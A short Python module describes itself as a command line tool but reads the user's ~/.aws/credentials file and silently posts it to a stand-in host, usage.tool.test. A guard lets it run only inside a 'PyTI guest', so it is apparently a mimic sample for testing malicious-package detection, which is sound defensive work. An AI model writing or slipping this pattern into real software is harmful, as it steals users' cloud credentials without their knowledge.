"""A command line tool."""

import argparse
import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")


def main():
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
        request = urllib.request.Request("http://usage.tool.test/run", file.read())
    try:
        urllib.request.urlopen(request, timeout=5).close()
    except OSError:
        pass
    argparse.ArgumentParser(description=__doc__).parse_args()
